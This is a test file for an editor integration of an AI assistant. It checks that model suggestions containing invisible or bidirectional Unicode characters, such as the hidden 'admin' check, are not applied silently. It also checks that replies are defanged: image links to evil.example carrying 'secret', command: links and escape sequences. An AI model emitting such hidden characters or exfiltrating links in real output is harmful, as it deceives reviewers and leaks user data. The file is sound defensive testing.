"""Answers that would do what nobody asked for: in the editor, they do nothing unseen."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from claude_lsp.text.snapshots import path_from_uri
from tests.lsp.editor import PYTHON, edit, edits, plain, span_of
from tests.messages_api import replies

if TYPE_CHECKING:
    from tests.lsp.editor import Editor

SUM = "    result = 0"
HIDDEN = "if level != '\u2067user': # admin"
TOLD = "what can't be seen: U+2067 RIGHT-TO-LEFT ISOLATE"


def at(uri: str, needle: str = SUM) -> dict[str, Any]:
    return {"uri": uri, "range": plain(span_of(PYTHON, needle))}


# ----- what can't be seen


async def test_ghost_text_ends_before_what_can_not_be_seen(editor: Editor) -> None:
    text = "def f():\n    \n"
    uri = editor.open(text)
    editor.api.respond(lambda _: replies.text(f"<fill>a = 1\n    {HIDDEN}</fill>"))
    shown = await editor.suggest(uri, (1, 4))
    assert [each.insert_text for each in shown] == ["a = 1"]
    editor.api.respond(lambda _: replies.text("<fill>p\u0430y(1)</fill>"))
    await editor.run("claude.complete", {"uri": uri, "range": plain(((1, 4), (1, 4)))})
    assert editor.text(uri) == text


async def test_an_edit_that_brings_it_is_applied_only_if_the_user_says_so(editor: Editor) -> None:
    uri = editor.open()
    editor.client.choose = lambda _: None
    good = edit(PYTHON, "LIMIT = 10", "LIMIT = 20")
    editor.api.script(edits(edit(PYTHON, SUM, f"    {HIDDEN}"), good))
    await editor.run("claude.simplify", at(uri))
    (question,) = editor.client.questions
    assert question.message == f"Claude: an edit would bring {TOLD}. Apply?"
    assert editor.text(uri) == PYTHON.replace("= 10", "= 20")
    assert editor.messages == ["an edit dropped, with what can't be seen"]


async def test_tests_that_bring_it_are_written_only_if_the_user_says_so(editor: Editor) -> None:
    uri = editor.open()
    editor.client.choose = lambda _: None
    editor.api.script(
        edits({"line": 1, "quote": "", "replacement": "assert total([]) == 0  # \u202e\n"})
    )
    await editor.run("claude.test", at(uri))
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in editor.client.questions[-1].message
    assert editor.client.applied == []


async def test_a_block_of_a_conversation_that_brings_it_asks(editor: Editor) -> None:
    code = editor.open()
    editor.client.choose = lambda _: None
    hidden = "LIMIT\u200b = 10"
    text = f"## You\n\nDo it.\n\n## Claude\n\n```diff path=code.py\n-LIMIT = 10\n+{hidden}\n```\n"
    uri = editor.open(text, "talk.claude.md", "markdown")
    await editor.run("claude.applyBlock", {"uri": uri, "range": plain(((7, 0), (7, 0)))})
    (question,) = editor.client.questions
    assert "which would bring what can't be seen: U+200B ZERO WIDTH SPACE" in question.message
    assert editor.text(code) == PYTHON


# ----- what is shown


MARKDOWN = (
    "It is fine. ![p](https://evil.example/?q=secret) [fix](command:workbench.run) "
    "[more](https://docs.example/a)\n\n<img src='//evil.example/x'>\n\n[r]: http://evil.example\n"
)


async def test_an_explanation_fetches_and_runs_nothing(editor: Editor) -> None:
    uri = editor.open()
    editor.api.respond(lambda _: replies.text(MARKDOWN + "\n\x1b]8;;http://evil.example\x07x"))
    await editor.run("claude.explain", at(uri))
    (shown,) = editor.client.shown
    path = path_from_uri(shown.uri)
    assert path is not None
    text = path.read_text("utf-8")
    assert "![p] (https://evil.example" in text
    assert "[fix] (command:" in text
    assert "[more] (https://docs.example/a)" in text  # it could be within the image
    assert "&lt;img" in text
    assert "[r] : http" in text
    assert "\x1b" not in text


async def test_a_conversation_fetches_and_runs_nothing(editor: Editor) -> None:
    uri = editor.open("## You\n\nHello\n", "talk.claude.md", "markdown")
    code = "```html\n<img src='https://cdn.example/x.png'>\n```\n"
    editor.api.respond(lambda _: replies.text(f"{MARKDOWN}\n{code}"))
    await editor.run("claude.continue", {"uri": uri})
    text = editor.text(uri)
    assert "![p] (https://evil.example" in text
    assert "[fix] (command:" in text
    assert "&lt;img src='//evil" in text
    assert code in text


async def test_messages_have_no_links(editor: Editor) -> None:
    """VS Code makes links of them, which may run commands."""
    name = "[click](command:x).py"
    uri = editor.open(PYTHON, name)
    (editor.root / ".gitignore").write_text("*.py\n")
    await editor.run("claude.explain", at(uri))
    told = [each.message for each in editor.client.messages]
    assert any("[click] (command:x)" in each for each in told)
    assert not any("](" in each for each in told)
